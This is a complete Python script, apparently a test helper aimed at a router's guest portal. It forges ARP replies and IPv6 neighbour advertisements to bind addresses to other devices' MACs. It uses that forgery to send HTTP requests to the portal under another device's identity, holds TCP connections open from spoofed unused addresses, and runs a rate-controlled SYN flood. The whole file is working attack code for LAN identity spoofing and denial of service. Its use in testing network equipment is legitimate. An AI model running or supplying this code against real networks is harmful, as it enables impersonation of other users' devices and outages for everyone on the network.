"""A guest who says in ARP and neighbour discovery what is not so. Every frame has the guest's own source.

impostor.py DEVICE GATEWAY claim ADDRESS MAC
    tells the router (GATEWAY is its MAC) that ADDRESS is MAC's
impostor.py DEVICE GATEWAY ask OWN ROUTER MAC METHOD PATH
    opens a connection to the portal at ROUTER from OWN, has the router take OWN for MAC's, asks, and
    prints the answer
impostor.py DEVICE GATEWAY hold OWN ROUTER COUNT
    opens connections by hand from addresses that nobody has, near OWN, has each taken for an invented
    MAC's before it is complete, and says nothing over them; says "ready", holds them until a line
    comes
impostor.py DEVICE GATEWAY flood OWN ROUTER RATE
    sends so many SYNs a second and completes none, until its input ends; says "ready" after a while
"""

import random
import socket
import struct
import sys
import threading
import time

PORT = 8880
ARP, IPV4, IPV6 = b"\x08\x06", b"\x08\x00", b"\x86\xdd"
SYN, ACK = 0x02, 0x10


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


class Impostor:
    def __init__(self, device, gateway):
        self.raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.raw.bind((device, 3))
        self.raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.own = self.raw.getsockname()[4]
        self.gateway = mac(gateway)

    def send(self, kind, payload):
        self.raw.send(self.gateway + self.own + kind + payload)

    def arp(self, operation, whose, address, target_mac, target):
        head = struct.pack("!HHBBH", 1, 0x800, 6, 4, operation)
        self.send(ARP, head + whose + address + target_mac + target)

    def claim(self, address, whose):
        """A gratuitous reply (RFC 5227), or an unsolicited advertisement with the override flag."""
        if ":" not in address:
            packed = socket.inet_aton(address)
            return self.arp(2, whose, packed, whose, packed)
        packed = socket.inet_pton(socket.AF_INET6, address)
        router = socket.inet_pton(socket.AF_INET6, "ff02::1")
        body = struct.pack("!I", 0x20000000) + packed + b"\x02\x01" + whose
        head = b"\x88\0"
        pseudo = packed + router + struct.pack("!II", len(body) + 4, 58)
        body = head + struct.pack("!H", checksum(pseudo + head + b"\0\0" + body)) + body
        self.send(IPV6, struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + packed + router + body)

    def appear(self, address, router):
        """Has the router know an address as ours, as whoever asks for it does."""
        self.arp(1, self.own, socket.inet_aton(address), bytes(6), socket.inet_aton(router))

    def tcp(self, source, port, router, sequence, acknowledged, flags):
        ends = socket.inet_aton(source) + socket.inet_aton(router)
        head = struct.pack("!HHIIBBHHH", port, PORT, sequence, acknowledged, 0x50, flags, 64240, 0, 0)
        total = checksum(ends + struct.pack("!HH", 6, len(head)) + head)
        head = head[:16] + struct.pack("!H", total) + head[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(head), 0, 0x4000, 64, 6, 0) + ends
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        self.send(IPV4, ip + head)

    def answered(self, source, port):
        """The sequence number of the SYN-ACK, if there is one."""
        self.raw.settimeout(0.3)
        wanted = socket.inet_aton(source)
        try:
            while True:
                frame = self.raw.recv(2048)
                if frame[12:14] != IPV4 or frame[23] != 6 or frame[30:34] != wanted:
                    continue
                if struct.unpack("!H", frame[36:38])[0] == port and frame[47] == SYN | ACK:
                    return struct.unpack("!I", frame[38:42])[0]
        except TimeoutError:
            return None


def ask(impostor, own, router, whose, method, path):
    peer = socket.create_connection((router, PORT), 10, (own, 0))
    host = f"[{router}]" if ":" in router else router
    impostor.claim(own, mac(whose))
    time.sleep(0.05)
    head = f"{method} {path} HTTP/1.1\r\nHost: {host}:{PORT}\r\nContent-Length: 0\r\n"
    peer.sendall(f"{head}Connection: close\r\n\r\n".encode())
    time.sleep(0.3)
    impostor.claim(own, impostor.own)
    while data := peer.recv(65536):
        print(data.decode(errors="replace"), end="")


def near(own):
    network = own.rsplit(".", 1)[0]
    return [f"{network}.{last}" for last in range(201, 251)]


def hold(impostor, own, router, count):
    held = 0
    for number in range(int(count)):
        addresses = near(own)
        source, port = addresses[number % len(addresses)], 20000 + number
        impostor.appear(source, router)
        impostor.tcp(source, port, router, 1000, 0, SYN)
        sequence = impostor.answered(source, port)
        if sequence is None:
            continue
        invented = bytes([2]) + random.randbytes(5)
        impostor.claim(source, invented)
        impostor.tcp(source, port, router, 1001, sequence + 1 & 0xFFFFFFFF, ACK)
        held += 1
    print("ready", flush=True)
    for _ in sys.stdin:
        print(held, flush=True)


def flood(impostor, own, router, rate):
    def sends():
        started, sent = time.monotonic(), 0
        while True:
            while sent < (time.monotonic() - started) * int(rate):
                source = random.choice(near(own))
                if sent % 100 == 0:
                    impostor.appear(source, router)
                impostor.tcp(source, random.randrange(1024, 65536), router, sent, 0, SYN)
                sent += 1
            time.sleep(0.01)

    for source in near(own):
        impostor.appear(source, router)
    threading.Thread(target=sends, daemon=True).start()
    time.sleep(4)
    print("ready", flush=True)
    for _ in sys.stdin:
        print("still", flush=True)


def main():
    device, gateway, role, *words = sys.argv[1:]
    impostor = Impostor(device, gateway)
    if role == "claim":
        impostor.claim(words[0], mac(words[1]))
    else:
        {"ask": ask, "hold": hold, "flood": flood}[role](impostor, *words)


main()
